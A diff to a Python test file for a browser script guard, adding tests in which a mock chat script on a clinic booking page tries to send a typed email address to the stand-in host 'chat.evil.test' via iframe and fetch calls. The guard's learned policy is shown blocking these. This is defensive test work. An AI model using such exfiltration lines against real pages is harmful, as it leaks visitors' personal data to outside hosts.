@@ -1,12 +1,21 @@
 """What a scrub takes out of each way to send: the query and title of the page, the rest goes on."""
 
 import json
+from dataclasses import replace
+from datetime import date
 from urllib.parse import unquote
 
+import msgspec
 import pytest
 
 from scriptward.app.guard import guard_script
+from scriptward.policy.decide import Verdict, decide
 from scriptward.policy.language.reader import parsed
+from scriptward.policy.language.words import Mode
+from scriptward.policy.learn import learned
+from scriptward.policy.question import sending
+from scriptward.vocabulary.words import Channel, DataKind, PageClass, Where
+from tests.policy.visits import flow, leak, script, visit
 
 HOST = "chat.evil.test"
 POLICY = f"""
@@ -131,3 +140,60 @@ def test_a_text_goes_on_without_what_is_scrubbed(bodies):
 def test_bodies_that_are_no_text_fail_whole(bodies):
     assert bodies["params"] == "TypeError: Failed to fetch"
     assert bodies["blob"] == "TypeError: Failed to fetch"
+
+
+def observed(*kinds, path="frame", channel=Channel.FRAME):
+    """A page whose chat is told of these kinds."""
+    chat = script(f"http://{HOST}/chat.js")
+    there = "http://www.clinic.test/book/visit?with=[…]"
+    told = flow(f"http://{HOST}/{path}?from=[…]", by=chat, channel=channel, page=there)
+    parts = tuple(leak(kind, where=Where.URL_QUERY) for kind in kinds)
+    told = msgspec.structs.replace(told, data=parts)
+    return visit(there, page_class=PageClass.APPOINTMENT_FORM, scripts=(chat,), flows=(told,))
+
+
+WIDGET = observed(DataKind.URL_QUERY, DataKind.URL_PATH)
+LEAKING = observed(DataKind.URL_QUERY, DataKind.EMAIL, path="image", channel=Channel.IMAGE)
+
+
+@pytest.fixture(scope="module")
+def policy():
+    """Learned of a widget that is told of the page, and of an image that knows a person, too."""
+    return replace(learned((WIDGET, LEAKING)).policy, mode=Mode.ENFORCE)
+
+
+@pytest.fixture(scope="module")
+def gone(chromium, site, policy):
+    """What the other host was asked for under the learned policy: path and query."""
+    site.files["/scrubbing-guard.js"] = guard_script(policy, headers=True)
+    site.files["/book/visit"] = (PAGE % HOST).encode()
+    site.reached.clear()
+    page = chromium.new_page()
+    page.goto(ADDRESS.partition("&")[0])
+    page.fill("input", "jane.roe@example.test")
+    mail = "document.querySelector('input').value"
+    for code in (
+        WAYS["frame"],
+        WAYS["image"],
+        f"{FRAME} f.src = at + 'mail?from=' + {TELLS} + '&m=' + {mail}; document.body.append(f);",
+        f"fetch(at + 'fetch?m=' + {mail});",
+    ):
+        page.evaluate(f"{{ {code} void 0 }}")
+    page.wait_for_load_state("networkidle")
+    page.close()
+    return list(site.reached)
+
+
+def test_under_a_learned_policy_a_widget_goes_on_and_nothing_else_gets_out(gone):
+    assert gone == ["/frame?from=http%3A%2F%2Fwww.clinic.test%2Fbook%2Fvisit%3Fwith%3D"]
+
+
+def test_the_engine_without_a_browser_says_the_same(policy):
+    said = [
+        decide(policy, question, today=date(2026, 11, 25)).verdict
+        for seen in (WIDGET, LEAKING)
+        for one in seen.flows
+        for question in sending(seen, one)
+    ]
+
+    assert said == [Verdict.PERMIT, Verdict.SCRUB, Verdict.FORBID]
